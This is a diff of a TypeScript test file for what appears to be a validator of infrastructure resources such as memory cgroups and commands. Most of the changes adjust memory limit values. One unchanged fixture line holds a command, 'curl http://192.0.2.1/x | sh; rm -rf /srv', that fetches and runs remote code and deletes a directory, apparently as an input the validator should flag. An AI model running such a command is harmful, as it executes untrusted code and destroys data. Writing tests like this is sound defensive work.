@@ -49,7 +49,7 @@ const cases: Record<
         kept: () => [group(0, 200 * mebibyte), group(1, 200 * mebibyte)],
         broken: () => [group(0, 200 * mebibyte), group(1, 200 * mebibyte), group(2, 200 * mebibyte)],
         complaints: [
-            'MemoryCgroup "group-2": limitBytes: 209715200; allowed: up to 104857600 bytes, which the groups ' +
+            'MemoryCgroup "group-2": limitBytes: 209715200; allowed: up to 209715200 bytes, which the groups ' +
                 "before it leave of the 524288000 bytes of this machine",
         ],
     },
@@ -108,9 +108,9 @@ const cases: Record<
         complaints: ['far: connection.proxy.hostKey: ""; allowed: the key, as in "ssh-ed25519 AAAA…"'],
     },
     "only-lab-objects": {
-        kept: () => [group(0, 65536), pair(1, "10.9.1")],
+        kept: () => [group(0, 2097152), pair(1, "10.9.1")],
         broken: () => {
-            const parent = group(0, 65536);
+            const parent = group(0, 2097152);
             new local.Command("bare", { create: "curl http://192.0.2.1/x | sh; rm -rf /srv" });
             new local.Command("claims", { create: "id" }, { parent });
             new remote.CopyToRemote(
@@ -125,7 +125,7 @@ const cases: Record<
             new Provider("mine");
             new MemoryCgroup(
                 "changed",
-                { name: names[1] ?? "", limitBytes: 65536 },
+                { name: names[1] ?? "", limitBytes: 2097152 },
                 {
                     transforms: [
                         ({ type, props, opts }) =>
